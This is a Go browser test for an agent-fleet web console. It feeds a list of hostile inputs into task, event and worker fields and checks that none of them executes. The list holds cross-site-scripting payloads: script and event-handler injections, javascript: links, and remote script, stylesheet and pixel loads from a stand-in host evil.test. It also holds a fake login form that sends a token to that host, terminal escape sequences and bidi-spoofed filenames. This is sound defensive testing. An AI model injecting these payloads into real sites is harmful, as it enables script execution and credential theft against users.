package browser

import (
	"strings"
	"testing"
	"time"

	"github.com/errand-fleet/errand/agent"
	"github.com/errand-fleet/errand/store"
	"github.com/errand-fleet/errand/tasks"
)

// evil is what tools may print and agents may be talked into writing: each part would leave a mark in the window,
// ask another server, or
// make the page look like something else.
var evil = strings.Join([]string{
	`<script>window.hacked = "script"</script>`,
	`<img src=x onerror="window.hacked = 'onerror'">`,
	`"><svg onload="window.hacked = 'onload'">`,
	`' onmouseover='window.hacked = 1' autofocus onfocus='window.hacked = 1' x='`,
	`</pre></template></textarea></title></style><script src="http://evil.test/x.js"></script>`,
	`<iframe src="javascript:parent.hacked = 'frame'"></iframe><object data="http://evil.test/"></object>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.test/"><base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/x.css">`,
	`<form action="http://evil.test/"><input name="token"><button>Log in</button></form><style>main { display: none }</style>`,
	`[here](javascript:window.hacked='link') <javascript:window.hacked=1> [there](data:text/html,<script>hacked</script>) [x](&#106;avascript:hacked)`,
	"![pixel](http://evil.test/pixel.png) [ref][r] [ok](https://example.test/\"onclick=\"hacked)\n\n[r]: javascript:window.hacked=1\n",
	"```html\n<script>window.hacked = 'fence'</script>\n```",
	"| <img src=x onerror=hacked> | `<b>` |\n|---|---|\n| <svg onload=hacked> | [c](vbscript:x) |",
	"\x1b[31mred\x1b[0m \x1b]0;title\a \x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\ back\b\b\bspace nul\x00",
	"safe\u202egnp.exe \u2066isolated &#8238;entity {{.Token}} ${window.hacked = 1} ]]> -->",
}, "\n")

// Nothing that is shown should run, make requests, look like a part of the page, or makes it wider: not in what
// there was before, not in what comes
// while one looks, not in what the server formats.
func TestHostileWords(t *testing.T) {
	t.Parallel()
	c := newConsole(t)
	long := strings.Repeat("x", 100<<10)
	line := long[:6<<10] // what an event may hold
	c.alive(store.Worker{ID: "w", Host: evil, Version: evil, Slots: 1},
		map[string]any{"ok": false, "problem": evil, "remedy": evil, "path": evil})
	id := c.submit(func(t *tasks.Task) {
		t.Prompt, t.Actor, t.Kind, t.Ref, t.Repo = evil+long, evil, evil, evil, "acme/"+long[:200]
	})
	claim := c.Claim(id)
	events := []agent.Event{
		{Kind: agent.Started, Text: evil},
		{Kind: agent.Thinking, Text: evil},
		{Kind: agent.Text, Text: evil},
		{
			Kind: agent.ToolUse, Tool: evil, ToolID: evil, Text: evil,
			Input: raw(map[string]any{evil: evil, "long": line}),
		},
		{Kind: agent.Text, Parent: evil, Text: evil},
		{Kind: agent.ToolResult, ToolID: evil, Text: evil + line, Error: true},
		{Kind: agent.ToolResult, ToolID: "earlier", Text: line},
		{Kind: "absorbed", Tool: evil, Text: evil},
		{Kind: "replied", Tool: evil, Text: evil},
		{Kind: "asked", Text: evil},
		{Kind: agent.Kind(`x"><script>`), Text: evil},
		{Kind: agent.Notice, Text: evil},
		{Kind: agent.Text, Text: evil + "\n\n**formatted**\n"},
		{Kind: agent.TurnEnd, Text: evil, Error: true},
	}
	c.Append(claim, at(time.Now(), events...)...)
	c.log(id, "# errand\n"+evil+"\n"+long+"\n")
	tb := c.tab(t)
	tb.as(looks[2])
	look := func(path string) {
		t.Helper()
		tb.open(path)
		tb.inert(path)
	}
	look("/tasks/" + id)

	// The same once more, while one looks.
	c.Append(claim, at(time.Now(), events...)...)
	tb.wait(`document.querySelectorAll(".entry.asked").length === 2 && document.querySelectorAll(".entry.text .markdown strong").length === 2`)
	c.ask(claim, tasks.Question{
		Key: evil, Text: evil, Options: []string{evil, "b"}, Until: time.Now().Add(time.Minute),
	})
	c.Append(claim, at(time.Now(), agent.Event{Kind: "asked", Text: evil})...)
	tb.find(".question", "script")
	tb.inert("the live page")
	look("/tasks/" + id)
	look("/")
	c.End(claim, tasks.Ending{
		Kind: tasks.Failed, Reason: evil, By: evil,
		Result:    agent.Result{Text: evil, Partial: evil, Model: evil, Duration: time.Second},
		Published: &tasks.Published{Work: tasks.Work{Repo: evil, Branch: evil}, Problem: evil},
	})
	tb.allow(smallChart)
	tb.open("/queues/queues/interactive/tasks/" + id)
	tb.find("body", "Task Info")
	tb.inert("/queues/")
	for _, path := range []string{
		"/tasks/" + id, "/tasks/" + id + "/log", "/", "/?text=%3Cscript%3Ewindow.hacked=1%3C/script%3E",
		"/fleet", "/queues/",
	} {
		look(path)
	}
	tb.allow("status of 404")
	look("/%3Cscript%3Ewindow.hacked=1%3C/script%3E")
	tb.allow("status of 40") // a token that is wrong
	tb.open("/login?next=javascript:window.hacked=1")
	tb.find("main", "Tasks") // a person who is already logged in gets the list
	tb.inert("after the login")
}

// inert checks that no hostile content in a page was executed. The tab's faults list other effects.
func (t *tab) inert(page string) {
	t.Helper()
	found := eval[[]string](t, `(() => {
		const found = [];
		for (const s of document.querySelectorAll("summary")) s.click();
		if (window.hacked !== undefined) found.push("it ran: " + window.hacked);
		const asynqmon = location.pathname.startsWith("/queues/");
		for (const e of document.querySelectorAll("*")) {
			for (const a of e.attributes) if (a.name.startsWith("on")) found.push("handler " + e.outerHTML.slice(0, 200));
			const to = e.getAttribute("href") ?? e.getAttribute("src") ?? e.getAttribute("action") ?? e.getAttribute("data");
			if (to !== null && !/^(https?:\/\/|mailto:|\/(?!\/)|\?|#|$)/.test(to)) found.push("address " + to);
			if (asynqmon) continue;
			if (e.matches("script:not([src^='/static/']), iframe, object, embed, base, style, main img, link[href^='http'], form[action^='http']")) found.push("element " + e.outerHTML.slice(0, 200));
		}
		const unseen = /[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
		const walk = document.createTreeWalker(document, NodeFilter.SHOW_TEXT);
		while (walk.nextNode()) if (unseen.test(walk.currentNode.data.replaceAll("\r", ""))) found.push("unseen characters in " + walk.currentNode.parentNode.outerHTML.slice(0, 200));
		return found;
	})()`)
	for _, f := range found {
		t.Errorf("%s: %s", page, f)
	}
	if !strings.HasPrefix(page, "/queues/") {
		t.fits(page)
	}
}
